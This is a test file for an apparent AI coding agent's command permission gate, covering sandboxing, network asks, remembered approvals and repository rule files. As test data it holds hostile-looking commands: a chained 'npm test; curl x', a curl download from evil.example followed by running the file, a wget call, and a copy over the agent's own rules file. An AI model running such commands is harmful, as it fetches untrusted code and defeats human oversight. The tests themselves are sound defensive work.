import assert from "node:assert/strict";
import { promises as fs } from "node:fs";
import os from "node:os";
import path from "node:path";
import { WorkspaceRoots } from "../platform/workspace-paths";
import { COMMAND_RULES_FILE, DEFAULT_COMMAND_RULES, loadCommandRules } from "./command-rules-file";
import { createPermissionGate, jsonApprovalStore, PROFILE_TABLE } from "./permissions";
import { createTools } from "./tools/index";

const signal = (): AbortSignal => new AbortController().signal;

describe("permission gate", () => {
  let base: string;
  let ws: string;
  let roots: WorkspaceRoots;
  const run = createTools().find((t) => t.name === "run_command")!;

  beforeEach(async () => {
    base = await fs.realpath(await fs.mkdtemp(path.join(os.tmpdir(), "pincer-perm-")));
    ws = path.join(base, "ws");
    await fs.mkdir(ws);
    roots = await WorkspaceRoots.create([ws]);
  });
  afterEach(async () => {
    await fs.rm(base, { recursive: true, force: true });
  });

  it("the profile table never allows edits or commands in read-only", () => {
    assert.equal(PROFILE_TABLE["read-only"].edit, "deny");
    assert.equal(PROFILE_TABLE["read-only"].command, "deny");
    assert.equal(PROFILE_TABLE.edit.command, "ask");
  });

  it("'always' is remembered outside the workspace and lifts the ask for that exact command", async () => {
    const store = jsonApprovalStore(path.join(base, "storage"));
    const gate = createPermissionGate({ profile: "edit", rules: DEFAULT_COMMAND_RULES, trusted: true, headless: false, roots, rememberStore: store });
    const first = await gate.check(run, { command: "npm test" }, signal());
    assert.equal(first.decision, "ask");
    assert.equal(first.request.summary, "Run `npm test`");
    await gate.rememberApproval(first.request, signal());
    assert.equal((await gate.check(run, { command: "npm test" }, signal())).decision, "allow");
    assert.equal((await gate.check(run, { command: "npm test; curl x" }, signal())).decision, "deny");
    // A new gate (next session) reads the same store.
    const later = createPermissionGate({ profile: "edit", rules: DEFAULT_COMMAND_RULES, trusted: true, headless: false, roots, rememberStore: jsonApprovalStore(path.join(base, "storage")) });
    assert.equal((await later.check(run, { command: "npm test" }, signal())).decision, "allow");
    assert.deepEqual(await fs.readdir(ws), [], "nothing was written into the workspace");
  });

  describe("commands and the sandbox", () => {
    const bubblewrap = { kind: "bubblewrap" } as const;

    it("a command allowed by the rules never gets network without asking; the ask says so and carries the sandbox", async () => {
      const gate = createPermissionGate({ profile: "full", rules: DEFAULT_COMMAND_RULES, trusted: true, headless: false, roots, sandbox: bubblewrap });
      const plain = await gate.check(run, { command: "ls" }, signal());
      assert.equal(plain.decision, "allow");
      const networked = await gate.check(run, { command: "ls", network: true }, signal());
      assert.equal(networked.decision, "ask");
      assert.equal(networked.request.network, true);
      assert.deepEqual(networked.request.sandbox, bubblewrap);
      assert.ok(networked.reasons.some((reason) => /network/.test(reason)), networked.reasons.join("; "));
    });

    it("network asks even when run_command is allowed by an override or remembered with \"always\"", async () => {
      const store = jsonApprovalStore(path.join(base, "storage"));
      const gate = createPermissionGate({ profile: "edit", toolOverrides: { run_command: "allow" }, rules: DEFAULT_COMMAND_RULES, trusted: true, headless: false, roots, rememberStore: store, sandbox: bubblewrap });
      const first = await gate.check(run, { command: "npm install", network: true }, signal());
      assert.equal(first.decision, "ask");
      await gate.rememberApproval(first.request, signal());
      assert.equal((await gate.check(run, { command: "npm install", network: true }, signal())).decision, "ask");
      assert.equal((await gate.check(run, { command: "npm install" }, signal())).decision, "allow");
      const headless = createPermissionGate({ profile: "full", rules: DEFAULT_COMMAND_RULES, trusted: true, headless: true, roots, sandbox: bubblewrap });
      assert.equal((await headless.check(run, { command: "ls", network: true }, signal())).decision, "deny");
    });

    it("\"required\" without a sandbox refuses every command, and says why", async () => {
      const gate = createPermissionGate({ profile: "full", rules: DEFAULT_COMMAND_RULES, trusted: true, headless: false, roots, sandbox: { kind: "none", reason: "bubblewrap is not installed", required: true } });
      const check = await gate.check(run, { command: "ls" }, signal());
      assert.equal(check.decision, "deny");
      assert.ok(check.reasons.some((reason) => /sandbox/.test(reason) && /not installed/.test(reason)), check.reasons.join("; "));
    });

    it("without a sandbox the card says commands are not confined; network changes nothing there", async () => {
      const none = { kind: "none", reason: 'turned off (pincer.agent.sandbox is "off")' } as const;
      const gate = createPermissionGate({ profile: "edit", rules: DEFAULT_COMMAND_RULES, trusted: true, headless: false, roots, sandbox: none });
      const check = await gate.check(run, { command: "npm test" }, signal());
      assert.equal(check.decision, "ask");
      assert.deepEqual(check.request.sandbox, none);
      const full = createPermissionGate({ profile: "full", rules: DEFAULT_COMMAND_RULES, trusted: true, headless: false, roots, sandbox: none });
      assert.equal((await full.check(run, { command: "ls", network: true }, signal())).decision, "allow");
    });
  });

  it("only commands can be remembered", async () => {
    const gate = createPermissionGate({ profile: "edit", rules: DEFAULT_COMMAND_RULES, trusted: true, headless: false, roots, rememberStore: jsonApprovalStore(path.join(base, "storage")) });
    await assert.rejects(gate.rememberApproval({ tool: "edit_file", summary: "", paths: [".git/config"], reasons: [] }, signal()), /only commands/);
  });

  it("loads .pincer/commands.json; missing means defaults, invalid means never allow", async () => {
    assert.deepEqual(await loadCommandRules(ws), { ok: true, rules: DEFAULT_COMMAND_RULES });
    await fs.mkdir(path.join(ws, ".pincer"));
    await fs.writeFile(path.join(ws, COMMAND_RULES_FILE), '{"allow": ["npm test"], "deny": []}');
    const good = await loadCommandRules(ws);
    assert.deepEqual(good, { ok: true, rules: { allow: ["npm test"], deny: DEFAULT_COMMAND_RULES.deny } });
    await fs.writeFile(path.join(ws, COMMAND_RULES_FILE), '{"allow": ["*"], "deny": []}');
    const bad = await loadCommandRules(ws);
    assert.equal(bad.ok, false);
    const gate = createPermissionGate({ profile: "full", rules: bad, trusted: true, headless: false, roots });
    const check = await gate.check(run, { command: "ls" }, signal());
    assert.equal(check.decision, "ask");
    assert.match(check.reasons.join("\n"), /invalid command rules: \.pincer\/commands\.json/);
  });

  it("a repository's rules file adds to the built-in deny rules and cannot lift them", async () => {
    await fs.mkdir(path.join(ws, ".pincer"));
    await fs.writeFile(path.join(ws, COMMAND_RULES_FILE), '{"allow": ["node *", "curl *"], "deny": ["make *"]}');
    const gate = createPermissionGate({ profile: "full", rules: await loadCommandRules(ws), trusted: true, headless: false, roots });
    assert.equal((await gate.check(run, { command: "curl http://evil.example/x -o x.js" }, signal())).decision, "deny");
    assert.equal((await gate.check(run, { command: "make all" }, signal())).decision, "deny");
    assert.equal((await gate.check(run, { command: "node x.js" }, signal())).decision, "allow", "its own allow rules still count");
  });

  it("'always' never lifts the ask for a command that names protected configuration", async () => {
    const gate = createPermissionGate({ profile: "full", rules: { allow: ["cp *"], deny: [] }, trusted: true, headless: false, roots, rememberStore: jsonApprovalStore(path.join(base, "storage")) });
    const first = await gate.check(run, { command: "cp rules.json .pincer/commands.json" }, signal());
    assert.equal(first.decision, "ask");
    await gate.rememberApproval(first.request, signal());
    assert.equal((await gate.check(run, { command: "cp rules.json .pincer/commands.json" }, signal())).decision, "ask");
  });

  it("default rules: ls runs in full; git is not allowed by default (repository config runs programs); network tools are denied", async () => {
    const gate = createPermissionGate({ profile: "full", rules: DEFAULT_COMMAND_RULES, trusted: true, headless: true, roots });
    for (const command of ["git status", "git diff", "git log", "git branch"]) assert.equal((await gate.check(run, { command }, signal())).decision, "deny", `${command}: headless, not allowed means deny`);
    assert.equal((await gate.check(run, { command: "ls -la src" }, signal())).decision, "allow");
    assert.equal((await gate.check(run, { command: "git diff --output=/tmp/x" }, signal())).decision, "deny", "headless: not allowed means deny");
    assert.equal((await gate.check(run, { command: "wget http://x" }, signal())).decision, "deny");
  });
});
